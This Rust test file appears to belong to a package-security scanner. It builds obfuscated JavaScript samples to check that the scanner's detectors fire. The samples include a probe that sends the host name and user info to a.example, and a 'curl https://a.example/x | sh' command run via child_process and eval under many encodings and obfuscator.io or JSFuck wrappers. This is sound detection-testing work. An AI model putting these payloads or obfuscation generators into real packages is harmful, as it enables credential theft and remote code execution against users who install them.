//! What obfuscators make: their texts come back, and what the code does is found.
#![expect(clippy::unwrap_used, reason = "test code")]

use packguard_javascript::JavaScript;
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analysis, Analyzer as _, Severity};

fn import(code: &str) -> Analysis {
    let package = PackageBuilder::new("npm", "sample")
        .file(
            "package/package.json",
            r#"{"name":"sample","main":"index.js"}"#,
        )
        .file("package/index.js", code)
        .build();
    JavaScript::analyze(&package).unwrap()
}

#[track_caller]
fn finds(code: &str, rule: &str, least: Severity) {
    let analysis = import(code);
    assert!(
        analysis
            .findings()
            .iter()
            .any(|finding| finding.rule == rule && finding.severity >= least),
        "{rule} at {least:?} not in {:#?}\n{code}",
        analysis
            .findings()
            .iter()
            .map(|finding| (&finding.rule, finding.severity, &finding.title))
            .collect::<Vec<_>>()
    );
}

/// The alphabet that the obfuscator's base64 has.
const SWAPPED: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=";

fn swapped_base64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    let plain = base64::engine::general_purpose::STANDARD.encode(bytes);
    let swap = |letter: char| {
        if letter.is_ascii_alphabetic() {
            (letter as u8 ^ 0x20) as char
        } else {
            letter
        }
    };
    plain.trim_end_matches('=').chars().map(swap).collect()
}

fn rc4(text: &str, key: &str) -> String {
    let mut state: Vec<usize> = (0..256).collect();
    let key: Vec<usize> = key.bytes().map(usize::from).collect();
    let mut j = 0;
    for i in 0..256 {
        j = (j + state[i] + key[i % key.len()]) % 256;
        state.swap(i, j);
    }
    let (mut i, mut j) = (0, 0);
    text.chars()
        .map(|letter| {
            i = (i + 1) % 256;
            j = (j + state[i]) % 256;
            state.swap(i, j);
            char::from_u32(letter as u32 ^ state[(state[i] + state[j]) % 256] as u32).unwrap()
        })
        .collect()
}

#[derive(Clone, Copy, PartialEq)]
enum Preset {
    Plain,
    Base64,
    Rc4,
}

/// A script whose texts stand in a shuffled array, as obfuscator.io makes it. In `code`,
/// `@0` stands for the fetch of the first text, and so on.
fn shuffled(texts: &[&str], code: &str, preset: Preset, turns: usize) -> String {
    let numbers = ["31aBcD", "14eFgH", "15iJkL", "9mNoP"];
    let all: Vec<&str> = numbers.iter().chain(texts).copied().collect();
    let mut stored: Vec<String> = all
        .iter()
        .map(|text| match preset {
            Preset::Plain => (*text).to_owned(),
            Preset::Base64 => swapped_base64(text.as_bytes()),
            Preset::Rc4 => swapped_base64(rc4(text, "k3Y!").as_bytes()),
        })
        .collect();
    stored.rotate_right(turns);
    let list = stored
        .iter()
        .map(|text| format!("'{text}'"))
        .collect::<Vec<_>>()
        .join(",");
    let fetch = |decoder: &str, at: usize| match preset {
        Preset::Rc4 => format!("{decoder}(0x{:x},'k3Y!')", at + 0x1a3),
        _ => format!("{decoder}(0x{:x})", at + 0x1a3),
    };
    let unpack = format!(
        "const _0xda=function(_0xq){{const _0xw='{SWAPPED}';let _0xe='',_0xr='',_0xt=_0xe+_0xda;\
         for(let _0xy=0x0,_0xu,_0xi,_0xo=0x0;_0xi=_0xq['charAt'](_0xo++);~_0xi&&(_0xu=_0xy%0x4?_0xu*0x40+_0xi:_0xi,_0xy++%0x4)?\
         _0xe+=_0xt['charCodeAt'](_0xo+0xa)-0xa!==0x0?String['fromCharCode'](0xff&_0xu>>(-0x2*_0xy&0x6)):_0xy:0x0){{_0xi=_0xw['indexOf'](_0xi);}}\
         for(let _0xp=0x0,_0xa=_0xe['length'];_0xp<_0xa;_0xp++){{_0xr+='%'+('00'+_0xe['charCodeAt'](_0xp)['toString'](0x10))['slice'](-0x2);}}\
         return decodeURIComponent(_0xr);}};"
    );
    let cipher = "const _0xrc=function(_0xq,_0xk){let _0xs=[],_0xj=0x0,_0xx,_0xo='';_0xq=_0xda(_0xq);let _0xn;\
         for(_0xn=0x0;_0xn<0x100;_0xn++){_0xs[_0xn]=_0xn;}\
         for(_0xn=0x0;_0xn<0x100;_0xn++){_0xj=(_0xj+_0xs[_0xn]+_0xk['charCodeAt'](_0xn%_0xk['length']))%0x100;_0xx=_0xs[_0xn];_0xs[_0xn]=_0xs[_0xj];_0xs[_0xj]=_0xx;}\
         _0xn=0x0;_0xj=0x0;for(let _0xm=0x0;_0xm<_0xq['length'];_0xm++){_0xn=(_0xn+0x1)%0x100;_0xj=(_0xj+_0xs[_0xn])%0x100;_0xx=_0xs[_0xn];_0xs[_0xn]=_0xs[_0xj];_0xs[_0xj]=_0xx;\
         _0xo+=String['fromCharCode'](_0xq['charCodeAt'](_0xm)^_0xs[(_0xs[_0xn]+_0xs[_0xj])%0x100]);}return _0xo;};";
    let (prepare, decode) = match preset {
        Preset::Plain => (String::new(), String::new()),
        Preset::Base64 => (
            format!("if(_0x22cd['iNiT']===undefined){{{unpack}_0x22cd['dEc']=_0xda;_0xd1=arguments;_0x22cd['iNiT']=!![];}}"),
            "const _0xf1=_0xc[0x0],_0xf2=_0xa+_0xf1,_0xf3=_0xd1[_0xf2];if(!_0xf3){_0xf=_0x22cd['dEc'](_0xf);_0xd1[_0xf2]=_0xf;}else{_0xf=_0xf3;}".to_owned(),
        ),
        Preset::Rc4 => (
            format!("if(_0x22cd['iNiT']===undefined){{{unpack}{cipher}_0x22cd['dEc']=_0xrc;_0xd1=arguments;_0x22cd['iNiT']=!![];}}"),
            "const _0xf1=_0xc[0x0],_0xf2=_0xa+_0xf1,_0xf3=_0xd1[_0xf2];if(!_0xf3){if(_0x22cd['oNc']===undefined){_0x22cd['oNc']=!![];}_0xf=_0x22cd['dEc'](_0xf,_0xb);_0xd1[_0xf2]=_0xf;}else{_0xf=_0xf3;}".to_owned(),
        ),
    };
    let sum = (0..4)
        .map(|at| format!("parseInt({})/0x{:x}", fetch("_0x5", at), at + 1))
        .collect::<Vec<_>>()
        .join("+");
    let wanted = 31.0 + 14.0 / 2.0 + 15.0 / 3.0 + 9.0 / 4.0;
    let mut body = code.to_owned();
    for at in (0..texts.len()).rev() {
        body = body.replace(&format!("@{at}"), &fetch("_0x22cd", at + 4));
    }
    format!(
        "function _0x4a1b(){{const _0x1=[{list}];_0x4a1b=function(){{return _0x1;}};return _0x4a1b();}}\
         function _0x22cd(_0xa,_0xb){{_0xa=_0xa-0x1a3;const _0xc=_0x4a1b();let _0xf=_0xc[_0xa];let _0xd1;{prepare}{}{decode}return _0xf;}}\
         (function(_0x3,_0x4){{const _0x5=_0x22cd,_0x6=_0x3();while(!![]){{try{{const _0x7={sum};if(_0x7===_0x4)break;else _0x6['push'](_0x6['shift']());}}catch(_0x8){{_0x6['push'](_0x6['shift']());}}}}}}(_0x4a1b,{wanted}));{body}",
        if preset == Preset::Plain {
            ""
        } else {
            "_0xd1=_0x22cd['cAcHe']||(_0x22cd['cAcHe']={});"
        }
    )
}

const PROBE: &[&str] = &[
    "os",
    "hostname",
    "userInfo",
    "https",
    "request",
    "write",
    "a.example",
];
const PROBE_CODE: &str = "const _0xo1=require(@0),_0xo2=require(@3);const _0xo3={'h':_0xo1[@1](),'u':_0xo1[@2]()};\
    const _0xo4=_0xo2[@4]({'hostname':@6,'method':'POST'});_0xo4[@5](JSON['stringify'](_0xo3));_0xo4['end']();";

#[test]
fn texts_of_shuffled_arrays_come_back() {
    for preset in [Preset::Plain, Preset::Base64, Preset::Rc4] {
        for turns in [0, 3, 7] {
            let code = shuffled(PROBE, PROBE_CODE, preset, turns);
            finds(&code, "js-exfiltrate-host", Severity::Medium);
        }
    }
}

#[test]
fn wrappers_proxies_and_flat_control_flow_do_not_hide() {
    let texts = &[
        "child_process",
        "exec",
        "curl https://a.example/x | sh",
        "2|0|1",
        "split",
    ];
    for code in [
        // A wrapper with an offset, and one around it.
        "function _0xw1(_0xp,_0xq){return _0x22cd(_0xq- -0x10,_0xp);}function _0xw2(_0xp,_0xq){return _0xw1(_0xq,_0xp-0x5);}require(@0)[@1](@2);",
        // Operators and calls by an object's members.
        "const _0xo={'aBcDe':function(_0xf,_0xg){return _0xf(_0xg);},'gHiJk':@2};_0xo['aBcDe'](require(@0)[@1],_0xo['gHiJk']);",
        // A switch in a loop.
        "const _0xs=@3[@4]('|');let _0xi=0x0,_0xc;while(!![]){switch(_0xs[_0xi++]){case'0':_0xc=require(@0);continue;case'1':_0xc[@1](@2);continue;case'2':var _0xz=1;continue;}break;}",
        // Members of a required module, taken apart.
        "const {[@1]:_0xe}=require(@0);_0xe(@2);",
        "const _0xm=require;const _0xn=_0xm(@0);(0x0,_0xn[@1])(@2);",
    ] {
        for preset in [Preset::Plain, Preset::Base64, Preset::Rc4] {
            finds(
                &shuffled(texts, code, preset, 2),
                "js-shell-download-run",
                Severity::High,
            );
        }
    }
}

const COMMAND: &str = "require('child_process').exec('curl https://a.example/x | sh')";

fn list(codes: impl Iterator<Item = u32>) -> String {
    codes
        .map(|code| code.to_string())
        .collect::<Vec<_>>()
        .join(",")
}

#[test]
fn own_decoders_are_run() {
    let xor = list(COMMAND.bytes().map(|byte| u32::from(byte) ^ 0x5a));
    let key = b"secret";
    let keyed = list(
        COMMAND
            .bytes()
            .zip(key.iter().cycle())
            .map(|(a, b)| u32::from(a ^ b)),
    );
    let shifted = list(COMMAND.bytes().map(|byte| u32::from(byte) + 7));
    let hexadecimal = hex::encode(COMMAND);
    let reversed: String = COMMAND.chars().rev().collect();
    let reversed = reversed.replace('\'', "\\'");
    let caesar: String = COMMAND
        .chars()
        .map(|c| char::from_u32(c as u32 + 3).unwrap())
        .collect();
    let caesar = caesar.replace('\\', "\\\\").replace('\'', "\\'");
    for code in [
        format!(
            "function d(a,k){{var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^k);return s}} eval(d([{xor}],0x5a))"
        ),
        format!(
            "const d=(a)=>a.map((c)=>String.fromCharCode(c^90)).join('');new Function('require',d([{xor}]))(require)"
        ),
        format!(
            "var a=[{keyed}],k='secret',s='';for(var i=0;i<a.length;i++){{s+=String.fromCharCode(a[i]^k.charCodeAt(i%k.length))}}eval(s)"
        ),
        format!("const s=Array.from([{shifted}],c=>String.fromCharCode(c-7)).join('');eval(s)"),
        format!(
            "let o='';const h='{hexadecimal}';for(let i=0;i<h.length;i+=2){{o+=String.fromCharCode(parseInt(h.substr(i,2),16))}}eval(o)"
        ),
        format!("function r(s){{return s.split('').reverse().join('')}}eval(r('{reversed}'))"),
        format!(
            "function un(s){{let o='';for(const c of s){{o+=String.fromCharCode(c.charCodeAt(0)-3)}}return o}};(0,eval)(un('{caesar}'))"
        ),
        format!(
            "const un=function(s){{return s.replace(/./g,function(c){{return String.fromCharCode(c.charCodeAt(0)-3)}})}};globalThis.eval(un('{caesar}'))"
        ),
        format!(
            "const b=Buffer.from('{hexadecimal}','hex');let s='';for(let i=0;i<b.length;i++){{s+=String.fromCharCode(b[i])}}require('vm').runInThisContext(s)"
        ),
        format!(
            "class D{{static go(a){{return a.map(c=>String.fromCharCode(c^90)).join('')}}}};eval([{xor}].reduce((s,c)=>s+String.fromCharCode(c^0x5a),''))"
        ),
    ] {
        finds(&code, "js-shell-download-run", Severity::High);
    }
}

/// A letter or word as JSFuck's basic table has it.
fn six_characters(text: &str) -> String {
    let fun = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]";
    let number = |n: usize| match n {
        0 => "+[]".to_owned(),
        1 => "+!+[]".to_owned(),
        n => vec!["!+[]"; n].join("+"),
    };
    let index = |n: usize| format!("[{}]", number(n));
    let sources = [
        ("(![]+[])".to_owned(), "false"),
        ("(!![]+[])".to_owned(), "true"),
        ("([][[]]+[])".to_owned(), "undefined"),
        (format!("({fun}+[])"), "function flat() { [native code] }"),
    ];
    let letter = |c: char| {
        sources
            .iter()
            .find_map(|(source, shown)| {
                shown
                    .find(c)
                    .filter(|at| *at < 10)
                    .map(|at| format!("{source}{}", index(at)))
            })
            .unwrap()
    };
    text.chars().map(letter).collect::<Vec<_>>().join("+")
}

#[test]
fn code_of_six_characters_is_decoded() {
    let fun = format!("[][{}]", six_characters("flat"));
    let run = |text: &str| {
        format!(
            "{fun}[{}]({})()",
            six_characters("constructor"),
            six_characters(text)
        )
    };
    let text = "return source a distant source a tidal sound location a far distant ocean island for future fortune finders";
    let code = run(text);
    let analysis = import(&code);
    assert!(
        analysis
            .findings()
            .iter()
            .any(|finding| finding.rule == "js-jsfuck")
    );
    let decoded = analysis
        .findings()
        .iter()
        .flat_map(|finding| &finding.decoded);
    assert!(
        decoded
            .map(|layer| layer.text.as_str())
            .any(|layer| layer == text)
    );
}
